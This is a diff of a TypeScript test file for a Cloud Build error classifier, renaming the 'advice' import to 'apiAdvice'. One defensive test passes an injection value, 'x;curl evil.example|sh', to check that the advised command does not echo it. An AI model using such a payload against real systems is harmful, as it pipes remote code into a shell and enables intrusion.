@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import { describe, test } from "node:test";
-import { advice } from "../../src/base/advice.ts";
+import { apiAdvice } from "../../src/base/api-advice.ts";
 import { type Poll, pollOf } from "../../src/cloudbuild/poll.ts";
 import type { Target } from "../../src/cloudbuild/target.ts";
 import { type Answer, type Lost, refusalOf } from "../../src/http/answer.ts";
@@ -70,7 +70,7 @@ describe("what an answer means", () => {
       "401 of a disabled account",
       google(401, "", "m", info("ACCOUNT_STATE_INVALID")),
       patience.newTokenRefused,
-      advice.accountDisabled.mend,
+      apiAdvice.accountDisabled.mend,
     ],
     ["401 without a word", answer(401, ""), patience.newTokenRefused],
     ["401 of somebody else", answer(401, html), patience.passing, page],
@@ -78,20 +78,20 @@ describe("what an answer means", () => {
       "403 of Google's",
       google(403, "PERMISSION_DENIED", "The caller does not have permission"),
       patience.denied,
-      advice.permission.mend,
+      apiAdvice.permission.mend,
     ],
     ["403 that says nothing", google(403, "PERMISSION_DENIED"), patience.denied],
     ["403 of somebody else", answer(403, html), patience.passing, page],
-    ["404 of Google's", google(404, "NOT_FOUND"), patience.notFound, advice.notFound.mend],
+    ["404 of Google's", google(404, "NOT_FOUND"), patience.notFound, apiAdvice.notFound.mend],
     ["404 of somebody else", answer(404, html), patience.passing, page],
-    ["404 of Google's front end", front(404, "Not Found"), patience.noSuchPath, advice.noSuchPath.mend],
-    ["404 of a method", google(404, "NOT_FOUND", "Method not found."), patience.noSuchPath, advice.noSuchPath.mend],
+    ["404 of Google's front end", front(404, "Not Found"), patience.noSuchPath, apiAdvice.noSuchPath.mend],
+    ["404 of a method", google(404, "NOT_FOUND", "Method not found."), patience.noSuchPath, apiAdvice.noSuchPath.mend],
     ["400 of Google's front end", front(400, "Bad Request"), patience.clientError],
     ["403 of Google's front end", front(403, "Forbidden"), patience.denied],
     ["502 of Google's front end", front(502, "Server Error"), patience.passing],
     ["429 of Google's front end", front(429, "Too Many Requests"), "quota"],
     ["405", google(405, ""), patience.clientError],
-    ["407", answer(407, html), patience.untrusted, advice.proxy.mend],
+    ["407", answer(407, html), patience.untrusted, apiAdvice.proxy.mend],
     ["408", google(408, ""), patience.passing],
     ["409", google(409, "ABORTED"), patience.clientError],
     ["414", google(414, ""), patience.clientError],
@@ -115,7 +115,7 @@ describe("what an answer means", () => {
       "Compute Engine's operation",
       answer(200, '{"name":"x","operationType":"insert"}'),
       patience.otherKind,
-      advice.otherKind.mend,
+      apiAdvice.otherKind.mend,
     ],
     ["a page with 200", answer(200, html), patience.passing, page],
   ];
@@ -137,16 +137,16 @@ describe("what no answer means", () => {
     ...["ERR_STREAM_PREMATURE_CLOSE", "HPE_INVALID_CONSTANT", "PROXY_502", "UNKNOWN"].map(
       (code) => [code, patience.passing, "", network] as const,
     ),
-    ["ENOTFOUND", patience.unknownHost, "The host is not known (ENOTFOUND): ", advice.host.mend],
-    ["PROXY_407", patience.untrusted, "The proxy requires a user name and password (407): ", advice.proxy.mend],
+    ["ENOTFOUND", patience.unknownHost, "The host is not known (ENOTFOUND): ", apiAdvice.host.mend],
+    ["PROXY_407", patience.untrusted, "The proxy requires a user name and password (407): ", apiAdvice.proxy.mend],
     ...["PROXY_400", "PROXY_403", "PROXY_404", "PROXY_429"].map(
-      (code) => [code, patience.untrusted, "The proxy refused the connection: ", advice.proxyRefused.mend] as const,
+      (code) => [code, patience.untrusted, "The proxy refused the connection: ", apiAdvice.proxyRefused.mend] as const,
     ),
     ...["CERT_HAS_EXPIRED", "DEPTH_ZERO_SELF_SIGNED_CERT", "SELF_SIGNED_CERT_IN_CHAIN", "EPROTO"].map(
-      (code) => [code, patience.untrusted, "The TLS connection failed: ", advice.tls.mend] as const,
+      (code) => [code, patience.untrusted, "The TLS connection failed: ", apiAdvice.tls.mend] as const,
     ),
     ...["UNABLE_TO_VERIFY_LEAF_SIGNATURE", "ERR_TLS_CERT_ALTNAME_INVALID", "ERR_SSL_WRONG_VERSION_NUMBER"].map(
-      (code) => [code, patience.untrusted, "The TLS connection failed: ", advice.tls.mend] as const,
+      (code) => [code, patience.untrusted, "The TLS connection failed: ", apiAdvice.tls.mend] as const,
     ),
   ];
   for (const [code, expected, start, mend] of rows) {
@@ -276,7 +276,7 @@ describe("what is said of a refusal", () => {
 
   test("a missing permission for builds is known where only the message names it", () => {
     const message = "Permission 'cloudbuild.builds.get' denied on resource '//cloudbuild.googleapis.com/x'";
-    assert.equal(mendOf(poll(google(403, "PERMISSION_DENIED", message))), advice.permission.mend);
+    assert.equal(mendOf(poll(google(403, "PERMISSION_DENIED", message))), apiAdvice.permission.mend);
   });
 
   test("a 403 of another service that names no permission has no advice", () => {
@@ -333,15 +333,15 @@ describe("what is said of a refusal", () => {
   test("a refusal by VPC Service Controls is known without a reason", () => {
     const violations = [{ type: "VPC_SERVICE_CONTROLS", description: "9a8b7c" }];
     const result = denied({ "@type": "type.googleapis.com/google.rpc.PreconditionFailure", violations });
-    assert.equal(mendOf(poll(result)), advice.perimeter.mend);
+    assert.equal(mendOf(poll(result)), apiAdvice.perimeter.mend);
     assert.equal(patienceOf(poll(result)), patience.blocked);
     assert.match(whyOf(poll(result)), /VPC_SERVICE_CONTROLS: 9a8b7c/);
   });
 
   test("a command that is advised has no words of the answer but names of services and projects", () => {
     const bad = { service: "x;curl evil.example|sh", consumer: "projects/$(x)" };
-    assert.equal(mendOf(poll(denied(info("SERVICE_DISABLED", bad)))), advice.apiDisabled.mend);
-    assert.equal(mendOf(poll(denied(info("SERVICE_DISABLED", { consumer: "folders/7" })))), advice.apiDisabled.mend);
+    assert.equal(mendOf(poll(denied(info("SERVICE_DISABLED", bad)))), apiAdvice.apiDisabled.mend);
+    assert.equal(mendOf(poll(denied(info("SERVICE_DISABLED", { consumer: "folders/7" })))), apiAdvice.apiDisabled.mend);
   });
 
   test("an error without message, status and details is told by its number", () => {
